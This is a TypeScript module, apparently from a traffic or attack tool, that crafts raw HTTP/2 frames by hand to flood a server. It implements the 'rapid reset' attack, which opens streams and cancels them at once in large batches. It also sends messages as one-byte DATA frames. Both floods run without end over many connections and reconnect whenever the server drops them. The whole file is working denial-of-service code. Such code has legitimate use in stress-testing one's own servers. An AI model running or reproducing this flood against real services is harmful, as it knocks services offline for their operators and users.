/** Peers that write frames of HTTP/2 (RFC 9113) themselves, in ways that no client library would. */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setImmediate as turn, setTimeout as sleep } from 'node:timers/promises';
import type { FrameFlood, OneByteFrames, Teller } from './attacks';
import { headersOf } from './peer';

/** Types of frames (RFC 9113, section 6). */
const types = {
  data: 0,
  headers: 1,
  resetStream: 3,
  settings: 4,
  ping: 6,
  goAway: 7,
  windowUpdate: 8,
} as const;

const flags = { endStream: 1, acknowledged: 1, endHeaders: 4 } as const;

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const headerLength = 9;

/** How many bytes may be on their way at first, in a stream and in all (RFC 9113, section 6.9.2). */
const firstWindow = 65_535;

/** CANCEL (RFC 9113, section 7). */
const cancelled = Buffer.from([0, 0, 0, 8]);

/** Frames that go into one write. */
const batch = 200;

/** How long a peer that was cut off waits before it connects again, in milliseconds. */
const reconnectDelay = 10;

/** Sends frames for ever, over a number of connections. */
export function floodWithFrames(address: string, flood: FrameFlood, teller: Teller): void {
  const keepSending = async (): Promise<never> => {
    for (;;) {
      await new FramePeer(address, flood, teller).run();
      await sleep(reconnectDelay);
    }
  };
  for (let index = 0; index < flood.connections; index++) void keepSending();
}

class FramePeer {
  private readonly socket: Socket;
  private readonly headers: Buffer;
  private received = Buffer.alloc(0);
  private stream = 1;
  private window = firstWindow;

  constructor(
    address: string,
    private readonly flood: FrameFlood,
    private readonly teller: Teller,
  ) {
    const [host, port] = address.split(':');
    this.headers = encodeHeaders({ ':authority': address, ...headersOf(flood) });
    this.socket = connect(Number(port), host);
    this.socket.on('error', () => undefined);
    this.socket.on('connect', () => {
      teller.connected();
    });
    this.socket.on('data', (chunk) => {
      this.receive(chunk);
    });
  }

  /** Sends until it is cut off. */
  async run(): Promise<void> {
    this.socket.write(Buffer.concat([Buffer.from(preface), frame(types.settings, 0, 0)]));
    while (!this.socket.destroyed) {
      if (this.flood.type === 'rapid reset') await this.openAndReset();
      else await this.sendByteByByte(this.flood);
      // Reads what has come meanwhile.
      await turn();
    }
  }

  private async openAndReset(): Promise<void> {
    const frames: Buffer[] = [];
    for (let index = 0; index < batch; index++) {
      frames.push(
        frame(types.headers, flags.endHeaders, this.stream, this.headers),
        frame(types.resetStream, 0, this.stream, cancelled),
      );
      this.stream += 2;
      this.teller.count('resets');
    }
    await this.write(frames);
  }

  private async sendByteByByte({ message }: OneByteFrames): Promise<void> {
    const { stream } = this;
    this.stream += 2;
    await this.write([frame(types.headers, flags.endHeaders, stream, this.headers)]);
    for (let sent = 0; sent < message.length && !this.socket.destroyed;) {
      const frames: Buffer[] = [];
      const end = Math.min(sent + batch, message.length, sent + this.window);
      this.window -= end - sent;
      for (; sent < end; sent++) {
        const last = sent === message.length - 1;
        const byte = message.subarray(sent, sent + 1);
        frames.push(frame(types.data, last ? flags.endStream : 0, stream, byte));
        this.teller.count('frames');
      }
      await this.write(frames);
      // While the window is closed, nothing can be sent.
      await (frames.length > 0 ? turn() : sleep(1));
    }
  }

  private async write(frames: readonly Buffer[]): Promise<void> {
    if (this.socket.destroyed || this.socket.write(Buffer.concat(frames))) return;
    const gone = new AbortController();
    const { signal } = gone;
    await Promise.race([
      once(this.socket, 'drain', { signal }),
      once(this.socket, 'close', { signal }),
    ]).catch(() => undefined);
    gone.abort();
  }

  /** Acknowledges frames that need it, and keeps account of the window. */
  private receive(chunk: Buffer): void {
    this.received = Buffer.concat([this.received, chunk]);
    while (this.received.length >= headerLength) {
      const length = this.received.readUIntBE(0, 3);
      if (this.received.length < headerLength + length) return;
      const type = this.received.readUInt8(3);
      const acknowledged = (this.received.readUInt8(4) & flags.acknowledged) !== 0;
      const stream = this.received.readUInt32BE(5);
      const payload = this.received.subarray(headerLength, headerLength + length);
      if (type === types.settings && !acknowledged) {
        this.socket.write(frame(types.settings, flags.acknowledged, 0));
      } else if (type === types.ping && !acknowledged) {
        this.socket.write(frame(types.ping, flags.acknowledged, 0, payload));
      } else if (type === types.windowUpdate && stream === 0) {
        this.window += payload.readUInt32BE(0);
      } else if (type === types.goAway) {
        this.teller.count('GOAWAY');
        this.socket.destroy();
      }
      this.received = this.received.subarray(headerLength + length);
    }
  }
}

function frame(type: number, flag: number, stream: number, payload: Uint8Array = noBytes): Buffer {
  const header = Buffer.alloc(headerLength);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flag, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

const noBytes = new Uint8Array();

/** Literal header fields without indexing, with new names (RFC 7541, section 6.2.2). */
function encodeHeaders(headers: Readonly<Record<string, string>>): Buffer {
  const entries = Object.entries(headers).toSorted(([a], [b]) => pseudoFirst(a) - pseudoFirst(b));
  return Buffer.concat(
    entries.flatMap(([name, value]) => [Buffer.from([0]), encodeText(name), encodeText(value)]),
  );
}

/** Pseudo-header fields come before all others (RFC 9113, section 8.3). */
function pseudoFirst(name: string): number {
  return name.startsWith(':') ? 0 : 1;
}

/** The longest text whose length fits into the first byte (RFC 7541, section 5.1). */
const longestText = 126;

/** A string literal as it is (RFC 7541, section 5.2). */
function encodeText(text: string): Buffer {
  if (text.length > longestText) throw new RangeError('a header of an attack is too long');
  return Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
}
